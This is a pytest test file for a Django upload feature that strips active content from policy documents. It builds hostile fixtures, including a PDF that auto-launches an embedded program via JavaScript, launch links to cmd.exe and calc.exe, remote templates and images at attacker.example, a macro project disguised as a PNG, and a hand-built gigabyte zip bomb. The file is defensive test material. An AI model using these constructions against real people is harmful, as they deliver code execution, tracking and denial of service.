"""Active content is taken out of accepted files before they are stored; the text stays readable."""

import hashlib
import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from audit.models import AuditEvent
from demo.documents import make_docx, make_odt, make_pdf
from documents.disarm import disarm, disarm_in_sandbox
from documents.inspection import inspect_file
from documents.reader import extract_text
from policies.models import PolicyVersion

from ..files import with_entries
from ..policies.test_upload import form_data

POLICY_TEXT = "Staff must not befriend children on social media."
POLICY = [("heading", 1, "Social media policy"), ("para", POLICY_TEXT)]
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE_SIGNATURE = bytes.fromhex("D0CF11E0A1B11AE1")


# Hostile files ---------------------------------------------------------------------------------


def _saved(pdf: pikepdf.Pdf) -> bytes:
    output = io.BytesIO()
    pdf.save(output)
    return output.getvalue()


def pdf_javascript_launching_a_program() -> bytes:
    """JavaScript, run when the PDF opens, that launches the program embedded in it."""
    pdf = pikepdf.open(io.BytesIO(make_pdf([[POLICY_TEXT]])))
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ" + bytes(510), filename="setup.exe"
    )
    script = pdf.make_indirect(
        pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript,
            JS=pikepdf.String("this.exportDataObject({cName: 'setup.exe', nLaunch: 2});"),
        )
    )
    pdf.Root.OpenAction = script
    pdf.Root.Names.JavaScript = pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("run"), script])
    )
    return _saved(pdf)


def pdf_with_links() -> bytes:
    """A link to a web page, and one that starts a program."""
    pdf = pikepdf.open(io.BytesIO(make_pdf([[POLICY_TEXT]])))

    def link(action: pikepdf.Dictionary) -> pikepdf.Dictionary:
        return pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=[72, 700, 300, 720],
                A=action,
            )
        )

    pdf.pages[0].obj.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://www.ceop.police.uk/")),
                link(pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
            ]
        )
    )
    return _saved(pdf)


def _zip(entries: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return output.getvalue()


def pdf_with_zip_appended() -> bytes:
    return make_pdf([[POLICY_TEXT]]) + _zip({"payload.exe": b"MZ" + bytes(100)})


def _docx_with(
    *, relationships: dict[str, str] = (), parts: dict[str, bytes] = (), body: str = ""
) -> bytes:
    """A DOCX with relationship parts added (name: Relationship elements), parts added, and
    markup added at the start of the body."""
    docx = make_docx(POLICY)
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        existing = {name: archive.read(name) for name in archive.namelist()}
    entries = dict(parts or {})
    for name, elements in dict(relationships).items():
        if name in existing:
            entries[name] = existing[name].replace(
                b"</Relationships>", elements.encode() + b"</Relationships>"
            )
        else:
            entries[name] = (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships">{elements}</Relationships>'
            ).encode()
    if body:
        document = entries.get("word/document.xml", existing["word/document.xml"])
        entries["word/document.xml"] = document.replace(b"<w:body>", b"<w:body>" + body.encode())
    return with_entries(docx, entries)


def docx_remote_template() -> bytes:
    """Word fetches an attached template from another server when the document opens."""
    docx = _docx_with(
        relationships={
            "word/_rels/settings.xml.rels": (
                f'<Relationship Id="rIdTemplate" Type="{R}/attachedTemplate" '
                'Target="https://attacker.example/template.dotm" TargetMode="External"/>'
            )
        }
    )
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        settings = archive.read("word/settings.xml")
    start = settings.index(b">", settings.index(b"<w:settings")) + 1
    settings = settings[:start] + b'<w:attachedTemplate r:id="rIdTemplate"/>' + settings[start:]
    return with_entries(docx, {"word/settings.xml": settings})


def docx_remote_picture() -> bytes:
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
        'drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:blipFill><a:blip r:link="rIdRemote"/></pic:blipFill>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    return _docx_with(
        relationships={
            "word/_rels/document.xml.rels": (
                f'<Relationship Id="rIdRemote" Type="{R}/image" '
                'Target="http://attacker.example/pixel.png" TargetMode="External"/>'
                f'<Relationship Id="rIdLink" Type="{R}/hyperlink" '
                'Target="https://www.ceop.police.uk/" TargetMode="External"/>'
            )
        },
        body=drawing,
    )


def docx_macro_project_under_a_picture_name() -> bytes:
    """A VBA project stored as word/media/image9.png, linked and typed as a macro project."""
    docx = _docx_with(
        relationships={
            "word/_rels/document.xml.rels": (
                '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                'relationships/vbaProject" Target="media/image9.png"/>'
            )
        },
        parts={"word/media/image9.png": OLE_SIGNATURE + bytes(1024)},
    )
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        types = archive.read("[Content_Types].xml")
    types = types.replace(
        b"</Types>",
        b'<Override PartName="/word/media/image9.png" '
        b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return with_entries(docx, {"[Content_Types].xml": types})


def docx_macro_project_renamed() -> bytes:
    """A VBA project under a picture's name, with nothing else to give it away but its content."""
    return _docx_with(parts={"word/media/image1.png": OLE_SIGNATURE + bytes(1024)})


def gigabyte_zip_bomb() -> bytes:
    """A ZIP of about a megabyte holding one file of 1 GiB of zeros."""
    megabyte = bytes(1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    # A full flush makes the block stand alone, so repeating it repeats the megabyte.
    block = compressor.compress(megabyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    data = block * 1024 + b"\x03\x00"  # and an empty final block
    crc = 0
    for _ in range(1024):
        crc = zlib.crc32(megabyte, crc)
    name = b"zeros.bin"
    size = 1024 * 1024 * 1024
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(data), size, len(name), 0
    )
    central = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(data), size, len(name), 0, 0, 0, 0, 0, 0,
    )  # fmt: skip
    directory_at = len(local) + len(name) + len(data)
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central) + len(name), directory_at, 0
    )
    return local + name + data + central + name + end


@pytest.fixture(scope="module")
def docx_embedded_zip_bomb() -> bytes:
    bomb = gigabyte_zip_bomb()
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert archive.infolist()[0].file_size == 1024**3
    docx = make_docx(POLICY)
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        types = archive.read("[Content_Types].xml")
    types = types.replace(
        b"<Default ",
        b'<Default Extension="bin" '
        b'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Default ',
        1,
    )
    return _docx_with(
        relationships={
            "word/_rels/document.xml.rels": (
                f'<Relationship Id="rIdOle" Type="{R}/oleObject" '
                'Target="embeddings/oleObject1.bin"/>'
            )
        },
        parts={"word/embeddings/oleObject1.bin": bomb, "[Content_Types].xml": types},
        body=(
            '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" '
            'r:id="rIdOle"/></w:object></w:r></w:p>'
        ),
    )


def odt_with_object_and_remote_picture() -> bytes:
    odt = make_odt(POLICY)
    with zipfile.ZipFile(io.BytesIO(odt)) as archive:
        content = archive.read("content.xml")
        manifest = archive.read("META-INF/manifest.xml")
    frames = (
        b'<text:p><draw:frame draw:name="Object1"><draw:object xlink:href="./Object 1"/>'
        b'<draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame>'
        b'<draw:frame draw:name="Remote"><draw:image xlink:href="http://attacker.example/p.png"/>'
        b"</draw:frame></text:p>"
    )
    content = content.replace(b"<office:text>", b"<office:text>" + frames, 1)
    content = content.replace(
        b"<office:document-content",
        b'<office:document-content xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
        b' xmlns:xlink="http://www.w3.org/1999/xlink"',
        1,
    )
    manifest = manifest.replace(
        b"</manifest:manifest>",
        b'<manifest:file-entry manifest:full-path="Object 1/" manifest:media-type="application/'
        b'vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path='
        b'"Object 1/content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
    )
    return with_entries(
        odt,
        {
            "content.xml": content,
            "META-INF/manifest.xml": manifest,
            "Object 1/content.xml": b"<office:document-content/>",
            "ObjectReplacements/Object 1": b"picture",
        },
    )


# Looking inside what is stored -----------------------------------------------------------------


def assert_pdf_has_no_active_content(data: bytes) -> None:
    assert data.rstrip().endswith(b"%%EOF")
    with pikepdf.open(io.BytesIO(data)) as pdf:
        names = pdf.Root.get("/Names", pikepdf.Dictionary())
        assert "/JavaScript" not in names
        assert "/EmbeddedFiles" not in names
        assert "/OpenAction" not in pdf.Root
        for page in pdf.pages:
            for annotation in page.obj.get("/Annots", []):
                action = annotation.get("/A", pikepdf.Dictionary())
                assert action.get("/S") != pikepdf.Name.Launch
    assert b"setup.exe" not in data and b"payload.exe" not in data


def package_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def assert_docx_has_no_active_content(data: bytes) -> None:
    parts = package_parts(data)
    assert not any(name.startswith("word/embeddings/") for name in parts)
    assert not any(content.startswith(OLE_SIGNATURE) for content in parts.values())
    for name, content in parts.items():
        if name.endswith(".rels"):
            for external in content.split(b"<Relationship ")[1:]:
                if b'TargetMode="External"' in external:
                    assert b"/hyperlink" in external, name
            assert b"vbaProject" not in content and b"oleObject" not in content
    assert b"vbaProject" not in parts["[Content_Types].xml"]
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert b"rIdRemote" not in parts["word/document.xml"]
    assert b"rIdOle" not in parts["word/document.xml"]


def assert_text_readable(path) -> None:
    assert inspect_file(str(path))["ok"]
    text = " ".join(
        paragraph for page in extract_text(str(path))["pages"] for paragraph in page["paragraphs"]
    )
    assert POLICY_TEXT in text


def disarmed(tmp_path, data: bytes, kind: str) -> tuple[list[str], bytes]:
    source, target = tmp_path / f"in.{kind}", tmp_path / f"out.{kind}"
    source.write_bytes(data)
    removed = disarm(str(source), str(target), kind)
    assert removed
    assert_text_readable(target)
    return removed, target.read_bytes()


# The disarming itself --------------------------------------------------------------------------


def test_pdf_javascript_and_its_embedded_program_are_removed(tmp_path):
    removed, stored = disarmed(tmp_path, pdf_javascript_launching_a_program(), "pdf")

    assert_pdf_has_no_active_content(stored)
    assert "JavaScript, set to run when the file opens" in removed
    assert "an embedded file (setup.exe)" in removed


def test_data_appended_after_the_end_of_a_pdf_is_removed(tmp_path):
    removed, stored = disarmed(tmp_path, pdf_with_zip_appended(), "pdf")

    assert_pdf_has_no_active_content(stored)
    assert b"PK\x03\x04" not in stored
    assert removed == ["data hidden after the end of the PDF"]


def test_a_pdf_link_that_starts_a_program_goes_but_a_web_link_stays(tmp_path):
    removed, stored = disarmed(tmp_path, pdf_with_links(), "pdf")

    assert_pdf_has_no_active_content(stored)
    assert removed == ["an instruction to start a program, behind a link or button"]
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        uris = [str(a.A.URI) for a in pdf.pages[0].obj.Annots if "/A" in a]
    assert uris == ["https://www.ceop.police.uk/"]


def test_a_pdf_that_visits_a_web_address_when_opened_no_longer_does(tmp_path):
    pdf = pikepdf.open(io.BytesIO(make_pdf([[POLICY_TEXT]])))
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI="https://tracker.example/opened"
    )

    removed, stored = disarmed(tmp_path, _saved(pdf), "pdf")

    assert removed == ["a web address to visit, set to run when the file opens"]
    assert b"tracker.example" not in stored


def test_a_pdf_that_opens_at_a_page_is_left_alone(tmp_path):
    pdf = pikepdf.open(io.BytesIO(make_pdf([[POLICY_TEXT]])))
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit]
    )
    source = tmp_path / "in.pdf"
    source.write_bytes(_saved(pdf))

    assert disarm(str(source), str(tmp_path / "out.pdf"), "pdf") == []


def test_a_docx_template_fetched_from_another_server_is_removed(tmp_path):
    removed, stored = disarmed(tmp_path, docx_remote_template(), "docx")

    assert_docx_has_no_active_content(stored)
    assert removed == ["a link to a template on another server"]


def test_a_docx_picture_loaded_from_another_server_is_removed_but_hyperlinks_stay(tmp_path):
    removed, stored = disarmed(tmp_path, docx_remote_picture(), "docx")

    assert_docx_has_no_active_content(stored)
    assert removed == ["a picture loaded from another server"]
    assert b"https://www.ceop.police.uk/" in package_parts(stored)["word/_rels/document.xml.rels"]


def test_a_docx_link_to_a_program_goes_but_its_words_stay(tmp_path):
    docx = _docx_with(
        relationships={
            "word/_rels/document.xml.rels": (
                f'<Relationship Id="rIdCalc" Type="{R}/hyperlink" '
                'Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>'
            )
        },
        body=(
            '<w:p><w:hyperlink r:id="rIdCalc"><w:r><w:t>Report a concern</w:t></w:r>'
            "</w:hyperlink></w:p>"
        ),
    )

    removed, stored = disarmed(tmp_path, docx, "docx")

    parts = package_parts(stored)
    assert removed == ["a link to a file or program"]
    assert b"calc.exe" not in parts["word/_rels/document.xml.rels"]
    assert b"rIdCalc" not in parts["word/document.xml"]
    assert b"Report a concern" in parts["word/document.xml"]


@pytest.mark.parametrize(
    "make", [docx_macro_project_under_a_picture_name, docx_macro_project_renamed]
)
def test_a_macro_project_under_an_ordinary_name_is_removed(tmp_path, make):
    hostile = tmp_path / "hostile.docx"
    hostile.write_bytes(make())
    assert inspect_file(str(hostile))["ok"]  # the upload checks alone let it through

    removed, stored = disarmed(tmp_path, make(), "docx")

    assert_docx_has_no_active_content(stored)
    assert "word/media/image" not in "".join(package_parts(stored))
    assert any("macro" in line for line in removed)


def test_an_embedded_gigabyte_zip_bomb_is_removed_without_being_unpacked(
    tmp_path, docx_embedded_zip_bomb
):
    source, target = tmp_path / "bomb.docx", tmp_path / "out.docx"
    source.write_bytes(docx_embedded_zip_bomb)
    assert inspect_file(str(source))["ok"]  # the upload checks alone let it through

    # Far less memory than the bomb unpacks to: it is dropped, never read.
    result = disarm_in_sandbox(
        str(source), str(target), "docx", timeout_seconds=20, memory_mb=512, max_file_mb=10
    )

    assert result.ok
    assert result.removed == ["an embedded object (oleObject1.bin)"]
    assert_docx_has_no_active_content(target.read_bytes())
    assert_text_readable(target)


def test_an_odt_embedded_object_and_remote_picture_are_removed(tmp_path):
    removed, stored = disarmed(tmp_path, odt_with_object_and_remote_picture(), "odt")

    parts = package_parts(stored)
    assert list(parts)[0] == "mimetype"
    assert not any(name.startswith("Object 1") for name in parts)
    assert b'full-path="Object 1' not in parts["META-INF/manifest.xml"]
    # The object's picture stays where the object was.
    assert "ObjectReplacements/Object 1" in parts
    assert b'xlink:href="./ObjectReplacements/Object 1"' in parts["content.xml"]
    assert b"attacker.example" not in parts["content.xml"]
    assert b"draw:object" not in parts["content.xml"]
    assert removed == ["an embedded object", "a picture loaded from another server"]


@pytest.mark.parametrize(
    ("kind", "content"),
    [("pdf", make_pdf([[POLICY_TEXT]])), ("docx", make_docx(POLICY)), ("odt", make_odt(POLICY))],
)
def test_a_file_with_nothing_active_is_left_exactly_as_it_is(tmp_path, kind, content):
    source, target = tmp_path / f"in.{kind}", tmp_path / f"out.{kind}"
    source.write_bytes(content)

    assert disarm(str(source), str(target), kind) == []
    assert not target.exists()


def test_a_file_that_cannot_be_read_is_not_passed_as_disarmed(tmp_path):
    source, target = tmp_path / "in.docx", tmp_path / "out.docx"
    source.write_bytes(b"PK\x03\x04 not really a package")

    result = disarm_in_sandbox(
        str(source), str(target), "docx", timeout_seconds=20, memory_mb=512, max_file_mb=10
    )

    assert not result.ok


# Through the upload page -----------------------------------------------------------------------

HOSTILE = [
    (
        "policy.pdf",
        pdf_javascript_launching_a_program,
        "JavaScript, set to run when the file opens",
    ),
    ("policy.pdf", pdf_with_zip_appended, "data hidden after the end of the PDF"),
    ("policy.docx", docx_remote_template, "a link to a template on another server"),
    ("policy.docx", docx_remote_picture, "a picture loaded from another server"),
    ("policy.docx", docx_macro_project_under_a_picture_name, "a macro project"),
    ("policy.odt", odt_with_object_and_remote_picture, "an embedded object"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "make", "phrase"), HOSTILE, ids=[h[1].__name__ for h in HOSTILE])
def test_an_upload_is_stored_disarmed_and_the_person_is_told_what_was_removed(
    alice_client, northgate, media_files, tmp_path, name, make, phrase
):
    content = make()
    response = alice_client.post(
        "/policies/new/",
        form_data(SimpleUploadedFile(name, content), agency=str(northgate.pk)),
        follow=True,
    )

    version = PolicyVersion.objects.get()
    page = response.content.decode()
    assert "We removed " in page and phrase in page
    assert "so it cannot run on reviewers’ computers" in page
    stored = media_files()[0].read_bytes()
    assert stored != content
    assert version.sha256 == hashlib.sha256(stored).hexdigest()
    assert version.size == len(stored)
    if name.endswith(".pdf"):
        assert_pdf_has_no_active_content(stored)
    elif name.endswith(".docx"):
        assert_docx_has_no_active_content(stored)
    copy = tmp_path / name
    copy.write_bytes(stored)
    assert_text_readable(copy)
    event = AuditEvent.objects.get(action=AuditEvent.Action.UPLOAD)
    assert any(line.startswith(phrase) for line in event.detail["removed"])


@pytest.mark.django_db
def test_an_embedded_zip_bomb_upload_is_stored_without_it(
    alice_client, northgate, media_files, docx_embedded_zip_bomb
):
    response = alice_client.post(
        "/policies/new/",
        form_data(
            SimpleUploadedFile("policy.docx", docx_embedded_zip_bomb), agency=str(northgate.pk)
        ),
        follow=True,
    )

    assert "We removed an embedded object (oleObject1.bin)" in response.content.decode()
    assert_docx_has_no_active_content(media_files()[0].read_bytes())


@pytest.mark.django_db
def test_a_clean_upload_is_stored_as_uploaded_with_no_removal_message(
    alice_client, northgate, media_files
):
    content = make_docx(POLICY)
    response = alice_client.post(
        "/policies/new/",
        form_data(SimpleUploadedFile("policy.docx", content), agency=str(northgate.pk)),
        follow=True,
    )

    assert "We removed" not in response.content.decode()
    assert media_files()[0].read_bytes() == content


@pytest.mark.django_db
def test_the_same_hostile_file_twice_is_told_it_is_already_uploaded(
    alice_client, northgate, media_files
):
    content = pdf_javascript_launching_a_program()
    data = form_data(SimpleUploadedFile("policy.pdf", content), agency=str(northgate.pk))
    alice_client.post("/policies/new/", data)

    response = alice_client.post(
        "/policies/new/",
        form_data(SimpleUploadedFile("again.pdf", content), agency=str(northgate.pk)),
    )

    assert response.status_code == 400
    assert "already uploaded as version 2.1" in response.content.decode()
    assert PolicyVersion.objects.count() == 1 and len(media_files()) == 1
